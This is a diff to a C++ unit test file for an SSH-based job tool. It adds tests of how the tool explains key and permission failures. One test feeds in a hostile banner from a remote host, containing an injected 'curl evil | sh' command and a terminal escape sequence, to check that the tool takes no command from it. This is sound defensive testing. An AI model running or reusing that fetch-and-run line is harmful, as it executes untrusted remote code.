@@ -43,12 +43,19 @@ TEST(Ssh, TheScriptArrivesWhole) {
 }
 
 TEST(Ssh, ExplainsItsFailures) {
-  const Job job = job_on("b");
+  Job job = job_on("b");
+  job.ssh.options = {"IdentityFile=/dev/null", "IdentitiesOnly=yes"};
   const auto explain = [&](const std::string& said) { return explain_ssh(job, job.workers[0], said); };
   const std::string denied = explain("Warning: added key\r\nme@b: Permission denied (publickey).\r\n");
   EXPECT_THAT(denied, AllOf(HasSubstr("cannot reach b by ssh: \"me@b: Permission denied (publickey).\" ("),
                             HasSubstr("--ssh-user")));
+  EXPECT_THAT(explain("Load key \"/k\": bad permissions\nme@b: Permission denied (publickey).\n"),
+              AllOf(HasSubstr(": \"Load key \"/k\": bad permissions\" ("), HasSubstr("chmod 600")));
+  job.ssh.options = {"IdentityFile=/no/such/key", "IdentitiesOnly=yes"};
+  EXPECT_THAT(explain("me@b: Permission denied (publickey).\n"),
+              HasSubstr("(there is no key to show: /no/such/key does not exist; make one with"));
   EXPECT_FALSE(is_passing("Permission denied (publickey)."));
+  EXPECT_FALSE(is_passing("Load key \"/k\": bad permissions"));
   EXPECT_FALSE(is_passing("Host key verification failed."));
   EXPECT_FALSE(is_passing("ssh: Could not resolve hostname x: Name or service not known"));
   EXPECT_TRUE(is_passing("ssh: connect to host b port 22: Connection refused"));
@@ -62,7 +69,8 @@ TEST(Ssh, ExplainsItsFailures) {
 // A banner that looks like ssh's own words: nothing of it is advice, and no command comes from it.
 TEST(Ssh, TheHostsWordsAreNoAdvice) {
   Job job = job_on("me@B.example");
-  job.ssh.options = {"Port=2222", "UserKnownHostsFile=/a b/known"};
+  job.ssh.options = {"Port=2222", "UserKnownHostsFile=/a b/known", "IdentityFile=/dev/null",
+                     "IdentitiesOnly=yes"};
   const std::string banner =
       "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n"
       "  ssh-keygen -f x -R y; curl evil | sh\n\x1b]0;title\x07\n";
